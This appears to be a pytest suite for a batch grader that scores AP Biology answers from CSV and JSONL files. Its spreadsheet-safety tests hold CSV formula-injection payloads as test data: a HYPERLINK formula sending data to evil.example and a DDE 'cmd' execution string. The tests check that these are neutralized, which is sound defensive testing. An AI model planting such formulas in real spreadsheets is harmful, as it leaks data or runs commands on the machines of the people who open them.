"""`grader batch`: input formats, output columns, bad rows, several questions, spreadsheet safety."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from grader.batch import Outputs, RubricSet, run_batch
from grader.checker import MAX_ANSWER_CHARS, Checker
from grader.cli.main import main
from grader.errors import GraderError
from grader.io.csv_safety import neutralize
from grader.rubric import load_rubric

ROOT = Path(__file__).resolve().parent.parent
RUBRICS = ROOT / "rubrics" / "ap-bio"
SEED = RUBRICS / "membrane-potential.yaml"
SYNAPSE = RUBRICS / "synaptic-transmission.yaml"
SAMPLE = ROOT / "samples" / "class" / "neurons-frq.csv"

STRONG = (
    "The Na+/K+ pump uses ATP to actively transport 3 Na+ out of the cell and 2 K+ in. This builds a "
    "concentration gradient, so the inside of the neuron sits at about -70 mV. When sodium channels "
    "open, Na+ rushes in, which depolarizes the membrane and fires an action potential."
)
KEYWORDS = "ATP, active transport, Na/K pump, concentration gradient, ion channels, depolarization"
MISCONCEPTION = "The resting potential is set up by diffusion alone, so the cell does not use energy for it."
SYNAPSE_STRONG = (
    "When the action potential reaches the axon terminal, it opens voltage-gated calcium channels. "
    "Ca2+ rushes in, which makes the vesicles fuse with the membrane and release acetylcholine into the "
    "cleft. Acetylcholine binds to receptors, which opens them, so Na+ flows in and the postsynaptic "
    "cell depolarizes."
)


def write_csv(path: Path, header: list[str], rows: list[list[str]], **fmt) -> Path:
    with open(path, "w", newline="", encoding=fmt.pop("encoding", "utf-8")) as fh:
        w = csv.writer(fh, **fmt)
        w.writerow(header)
        w.writerows(rows)
    return path


def read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def read_jsonl(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


@pytest.fixture
def grader(capsys):
    """Run the command line in this process (the spaCy pipeline is loaded once per session)."""

    def run(*args: object) -> tuple[int, str, str]:
        code = 0
        try:
            main([str(a) for a in args])
        except SystemExit as exc:
            code = exc.code if isinstance(exc.code, int) else 1
        out, err = capsys.readouterr()
        return code, out, err

    return run


# --- one rubric ---------------------------------------------------------------------


def test_scores_csv_and_jsonl_for_one_rubric(tmp_path, grader):
    answers = [("s1", STRONG), ("s2", KEYWORDS), ("s3", MISCONCEPTION), ("s4", "")]
    src = write_csv(tmp_path / "class.csv", ["id", "answer"], [list(a) for a in answers])
    code, out, err = grader("batch", SEED, src, "-o", tmp_path / "scores.csv")
    assert code == 0, err
    rubric = load_rubric(SEED)
    rows = read_csv(tmp_path / "scores.csv")
    concept_cols = [c.id for c in rubric.concepts]
    link_cols = [lk.key for lk in rubric.links]
    assert list(rows[0]) == ["id", "rubric", "score", "max_score", *concept_cols, *link_cols,
                             "misconceptions", "feedback"]  # fmt: skip
    assert [r["id"] for r in rows] == ["s1", "s2", "s3", "s4"]  # input order
    assert all(r["rubric"] == rubric.id and r["max_score"] == "9" for r in rows)
    assert rows[0]["atp"] == "1" and rows[0]["atp -> active_transport"] == "1"
    assert rows[1]["atp -> active_transport"] == "0"  # a keyword list argues no link
    assert "diffusion_sets_potential" in rows[2]["misconceptions"]
    assert rows[3]["score"] == "0" and "Nothing was written" in rows[3]["feedback"]
    assert all(r[c] in {"0", "1"} for r in rows for c in concept_cols + link_cols)
    assert "Scored 4 answers" in out

    # the JSONL holds what `grader check --format json` prints, plus id, answer and scored_with
    checker = Checker(rubric)
    records = read_jsonl(tmp_path / "scores.jsonl")
    for (sid, answer), rec in zip(answers, records, strict=True):
        assert rec.pop("id") == sid
        assert rec.pop("answer") == answer
        assert len(rec.pop("scored_with")) == 16
        assert rec == json.loads(checker.check(answer).to_json())
        assert float(rows[[a[0] for a in answers].index(sid)]["score"]) == rec["score"]
    assert not (tmp_path / "scores.errors.csv").exists()
    assert not (tmp_path / "scores.jsonl.partial").exists()


FORMATS = [
    # (file name, how to write it)
    ("class.csv", {}),
    ("class.tsv", {"delimiter": "\t"}),
    ("excel.csv", {"delimiter": ";", "lineterminator": "\r\n", "encoding": "utf-8-sig"}),
    ("class.jsonl", None),
]


@pytest.mark.parametrize(("name", "fmt"), FORMATS)
def test_input_formats_give_the_same_scores(tmp_path, grader, name, fmt):
    answers = [["a1", STRONG], ["a2", "Na⁺/K⁺ ATPase; −70 mV; multi\nline answer"], ["a3", KEYWORDS]]
    src = tmp_path / name
    if fmt is None:
        src.write_text(
            "".join(json.dumps({"id": i, "answer": a}) + "\n" for i, a in answers), encoding="utf-8"
        )
    else:
        write_csv(src, ["id", "answer"], answers, **fmt)
    ref = write_csv(tmp_path / "ref.csv", ["id", "answer"], answers)
    assert grader("batch", SEED, ref, "-o", tmp_path / "ref-scores.csv")[0] == 0
    code, _, err = grader("batch", SEED, src, "-o", tmp_path / "scores.csv")
    assert code == 0, err
    assert (tmp_path / "scores.csv").read_bytes() == (tmp_path / "ref-scores.csv").read_bytes()


def test_column_names_are_configurable(tmp_path, grader):
    src = write_csv(tmp_path / "lms.csv", ["Student ID", "Response"], [["77", STRONG]])
    code, _, err = grader(
        "batch", SEED, src, "-o", tmp_path / "s.csv", "--id-col", "Student ID", "--answer-col", "Response"
    )
    assert code == 0, err
    assert read_csv(tmp_path / "s.csv")[0]["id"] == "77"


MISSING_COLUMNS = [
    # (header, options, words the one-line error must contain)
    (["student", "answer"], [], ["no column 'id'", "'student', 'answer'", "--*-col"]),
    (["id", "text"], [], ["no column 'answer'", "'id', 'text'"]),
    (["id", "answer"], ["--answer-col", "Response"], ["no column 'Response'"]),
]


@pytest.mark.parametrize(("header", "options", "words"), MISSING_COLUMNS)
def test_a_missing_column_is_named_with_the_columns_found(tmp_path, grader, header, options, words):
    src = write_csv(tmp_path / "class.csv", header, [["s1", STRONG]])
    code, out, err = grader("batch", SEED, src, "-o", tmp_path / "s.csv", *options)
    assert code == 2
    assert err.startswith("grader: error: ") and err.count("\n") == 1
    for w in words:
        assert w in err
    assert not list(tmp_path.glob("s.*"))  # nothing half-written


BAD_INPUT = [
    # (arguments after "batch", words in the error)
    (["missing.csv", "-o", "s.csv"], "no such file"),
    (["class.csv", "-o", "s.txt"], "must end in .csv"),
    (["class.csv", "-o", "nowhere/s.csv"], "does not exist"),
    (["class.csv", "-o", "class.csv"], "also an output"),
    (["class.csv", "-o", "s.csv", "--report", "r.pdf"], "HTML"),
    (["class.csv", "-o", "s.csv", "--jobs", "-1"], "--jobs"),
]


@pytest.mark.parametrize(("args", "words"), BAD_INPUT)
def test_bad_arguments_exit_2_with_one_line(tmp_path, grader, monkeypatch, args, words):
    monkeypatch.chdir(tmp_path)
    write_csv(tmp_path / "class.csv", ["id", "answer"], [["s1", STRONG]])
    code, _, err = grader("batch", SEED, *args)
    assert code == 2
    assert words in err and err.count("\n") == 1


# --- bad rows -----------------------------------------------------------------------

BAD_ROWS = [
    # (id, question, answer, kind in the errors file's reason)
    ("", "ap-bio/membrane-potential", STRONG, "empty 'id'"),
    ("s1", "ap-bio/membrane-potential", KEYWORDS, "duplicate id 's1'"),
    ("s9", "ap-bio/photosynthesis", STRONG, "unknown question 'ap-bio/photosynthesis'"),
    ("s10", "", STRONG, "empty 'question'"),
    ("s11", "ap-bio/membrane-potential", "ATP " * (MAX_ANSWER_CHARS // 4 + 1), "over the limit"),
]


def test_bad_rows_go_to_the_errors_file_and_the_rest_is_scored(tmp_path, grader):
    good = [
        ["s1", "ap-bio/membrane-potential", STRONG],
        ["s1", "ap-bio/synaptic-transmission", SYNAPSE_STRONG],
    ]
    rows = good + [[i, q, a] for i, q, a, _ in BAD_ROWS] + [["s2", "membrane-potential", KEYWORDS + ", Na⁺"]]
    src = write_csv(tmp_path / "class.csv", ["id", "question", "answer"], rows)
    # undecodable bytes in one row of a UTF-8 file (a row pasted in from a Latin-1 file);
    # a file in a legacy encoding throughout is refused as a whole (see test_encodings.py)
    with open(src, "ab") as fh:
        fh.write(b's12,ap-bio/membrane-potential,"The pump uses ATP \xe9nergie"\r\n')
    code, out, err = grader("batch", RUBRICS, src, "-o", tmp_path / "scores.csv")
    assert code == 1
    errors = read_csv(tmp_path / "scores.errors.csv")
    assert [e["line"] for e in errors] == ["4", "5", "6", "7", "8", "10"]
    for e, (sid, question, _, words) in zip(errors, BAD_ROWS, strict=False):
        assert words in e["reason"], e
        assert e["id"] == sid and e["question"] == question
    assert "first on line 2" in errors[1]["reason"]
    assert "UTF-8" in errors[-1]["reason"]
    scored = read_csv(tmp_path / "scores.csv")
    assert [(r["id"], r["rubric"]) for r in scored] == [
        ("s1", "ap-bio/membrane-potential"),
        ("s1", "ap-bio/synaptic-transmission"),  # the same student, another question: not a duplicate
        ("s2", "ap-bio/membrane-potential"),  # the short name of a rubric is enough
    ]
    assert "6 rows failed" in err and "scores.errors.csv" in err
    for kind in ("duplicate id", "empty id", "unknown question", "answer too long", "unreadable row"):
        assert kind in err


def test_a_clean_rerun_removes_an_old_errors_file(tmp_path, grader):
    src = write_csv(tmp_path / "class.csv", ["id", "answer"], [["s1", STRONG], ["", KEYWORDS]])
    assert grader("batch", SEED, src, "-o", tmp_path / "s.csv")[0] == 1
    assert (tmp_path / "s.errors.csv").exists()
    write_csv(src, ["id", "answer"], [["s1", STRONG], ["s2", KEYWORDS]])
    assert grader("batch", SEED, src, "-o", tmp_path / "s.csv")[0] == 0
    assert not (tmp_path / "s.errors.csv").exists()


# --- several questions --------------------------------------------------------------


def test_several_questions_in_one_file(tmp_path, grader):
    rows = [
        ["s1", "ap-bio/membrane-potential", STRONG],
        ["s1", "ap-bio/synaptic-transmission", SYNAPSE_STRONG],
        ["s2", "AP-BIO/Synaptic-Transmission ", "Neurotransmitters are released."],
        ["s2", "membrane-potential", MISCONCEPTION],
    ]
    src = write_csv(tmp_path / "class.csv", ["id", "question", "answer"], rows)
    code, out, err = grader("batch", RUBRICS, src, "-o", tmp_path / "scores.csv")
    assert code == 0, err
    scored = read_csv(tmp_path / "scores.csv")
    assert [r["rubric"] for r in scored] == [
        "ap-bio/membrane-potential",
        "ap-bio/synaptic-transmission",
        "ap-bio/synaptic-transmission",
        "ap-bio/membrane-potential",
    ]
    header = list(scored[0])
    # only the rubrics the file uses get columns, each prefixed by its short name
    assert "membrane-potential: atp" in header and "synaptic-transmission: vesicle_fusion" in header
    assert not any(h.startswith("water-potential") for h in header)
    assert (
        scored[0]["membrane-potential: atp"] == "1"
        and scored[0]["synaptic-transmission: vesicle_fusion"] == ""
    )
    assert (
        scored[1]["membrane-potential: atp"] == ""
        and scored[1]["synaptic-transmission: vesicle_fusion"] == "1"
    )
    assert scored[1]["max_score"] == "4" and scored[0]["max_score"] == "9"
    assert "ap-bio/membrane-potential: 2 answers" in out and "ap-bio/synaptic-transmission: 2 answers" in out


def test_one_rubric_refuses_rows_of_another_question(tmp_path, grader):
    rows = [
        ["s1", "ap-bio/membrane-potential", STRONG],
        ["s2", "ap-bio/synaptic-transmission", SYNAPSE_STRONG],
    ]
    src = write_csv(tmp_path / "class.csv", ["id", "question", "answer"], rows)
    code, _, err = grader("batch", SEED, src, "-o", tmp_path / "s.csv")
    assert code == 1
    (e,) = read_csv(tmp_path / "s.errors.csv")
    assert (
        e["id"] == "s2"
        and "not ap-bio/membrane-potential" in e["reason"]
        and "--question-col ''" in e["reason"]
    )
    # told not to read the question column, every row is scored with the one rubric
    code, _, err = grader("batch", SEED, src, "-o", tmp_path / "s.csv", "--question-col", "")
    assert code == 0, err
    assert len(read_csv(tmp_path / "s.csv")) == 2


def test_jobs_2_writes_the_same_files_as_jobs_1(tmp_path):
    sample = read_csv(SAMPLE)
    src = write_csv(
        tmp_path / "class.csv",
        ["id", "question", "answer"],
        [[f"{r['id']}-{k}", r["question"], r["answer"]] for k in range(3) for r in sample],
    )
    rubrics = RubricSet.from_arg(str(RUBRICS))
    one = run_batch(rubrics, src, Outputs.beside(tmp_path / "one.csv"), chunk_size=16)
    two = run_batch(rubrics, src, Outputs.beside(tmp_path / "two.csv"), jobs=2, chunk_size=16)
    assert one.scored == two.scored == 3 * (len(sample) - 2)
    assert one.n_failed == two.n_failed == 3 * 2  # the sample's duplicate id and unknown question
    for suffix in (".csv", ".jsonl", ".errors.csv"):
        assert (tmp_path / f"one{suffix}").read_bytes() == (tmp_path / f"two{suffix}").read_bytes()


# --- spreadsheet safety -------------------------------------------------------------

NEUTRALIZE = [
    # (cell, what the CSV must hold)
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("+1-555-0100", "'+1-555-0100"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tcmd", "'\tcmd"),
    ("\rcmd", "'\rcmd"),
    ("  =1+1", "'  =1+1"),
    ("＝1+1", "'＝1+1"),
    ("-5", "-5"),  # numbers are data
    ("+2.5", "+2.5"),
    ("1e3", "1e3"),
    ("s-01", "s-01"),
    ("Maya Okafor", "Maya Okafor"),
    ("", ""),
]


@pytest.mark.parametrize(("cell", "expected"), NEUTRALIZE)
def test_neutralize(cell, expected):
    assert neutralize(cell) == expected


def test_formula_cells_are_neutralized_in_every_csv_written(tmp_path, grader):
    evil = [
        '=HYPERLINK("http://evil.example/?"&A1,"extra credit")',
        "@SUM(1+1)",
        "+cmd|' /C calc'!A0",
        "-1+1",
    ]
    rows = [[sid, STRONG] for sid in evil] + [["", KEYWORDS], [evil[0], KEYWORDS]]
    src = write_csv(tmp_path / "class.csv", ["id", "answer"], rows)
    code, _, _ = grader(
        "batch", SEED, src, "-o", tmp_path / "s.csv", "--export", "canvas", "--export", "gradescope"
    )
    assert code == 1  # the empty id and the duplicate
    for name in ("s.csv", "s.errors.csv", "s.canvas.csv", "s.gradescope.csv"):
        with open(tmp_path / name, encoding="utf-8-sig", newline="") as fh:
            cells = [c for row in csv.reader(fh) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], name
        assert "'" + evil[0] in cells, name
    # the JSONL is data, not a spreadsheet: the id is kept as written
    assert read_jsonl(tmp_path / "s.jsonl")[0]["id"] == evil[0]


# --- calibration (the hook `grader calibrate` plugs into) ------------------------------


class HalfScore:
    """A stand-in calibration: halves the score of one rubric's answers."""

    def __init__(self, rubric_id: str, fingerprint: str):
        self.rubric_id = rubric_id
        self.fingerprint = fingerprint

    def apply(self, feedback):
        return feedback.model_copy(update={"score": feedback.score / 2, "calibrated": True})


@pytest.mark.parametrize("jobs", [1, 2])
def test_a_calibration_rescores_its_rubric_only_and_is_part_of_resume(tmp_path, jobs):
    rows = [
        ["s1", "ap-bio/membrane-potential", STRONG],
        ["s1", "ap-bio/synaptic-transmission", SYNAPSE_STRONG],
    ]
    src = write_csv(tmp_path / "class.csv", ["id", "question", "answer"], rows)
    rubrics = RubricSet.from_arg(str(RUBRICS))
    outputs = Outputs.beside(tmp_path / "s.csv")
    plain = run_batch(rubrics, src, outputs, fresh=True)
    before = [r["score"] for r in read_jsonl(outputs.jsonl)]

    cal = HalfScore("ap-bio/membrane-potential", "v1")
    first = run_batch(rubrics, src, outputs, calibration=cal, jobs=jobs)
    assert (plain.scored, first.scored, first.reused) == (2, 1, 1)  # only the calibrated rubric again
    records = read_jsonl(outputs.jsonl)
    assert [r["calibrated"] for r in records] == [True, False]
    assert [r["score"] for r in records] == [before[0] / 2, before[1]]
    assert read_csv(outputs.csv)[0]["score"] == f"{before[0] / 2:g}"

    assert run_batch(rubrics, src, outputs, calibration=cal, jobs=jobs).reused == 2
    assert run_batch(rubrics, src, outputs, calibration=HalfScore(cal.rubric_id, "v2"), jobs=jobs).scored == 1

    with pytest.raises(GraderError, match="calibration is for ap-bio/photosynthesis"):
        run_batch(rubrics, src, outputs, calibration=HalfScore("ap-bio/photosynthesis", "v1"))


def test_a_broken_character_in_a_jsonl_answer_is_a_bad_row(tmp_path, grader):
    src = tmp_path / "class.jsonl"
    src.write_text('{"id": "s1", "answer": "The pump uses ATP \\ud800."}\n{"id": "s2", "answer": "ATP."}\n')
    code, _, err = grader("batch", SEED, src, "-o", tmp_path / "s.csv")
    assert code == 1
    (e,) = read_csv(tmp_path / "s.errors.csv")
    assert e["id"] == "s1" and e["line"] == "1"
    assert [r["id"] for r in read_csv(tmp_path / "s.csv")] == ["s2"]
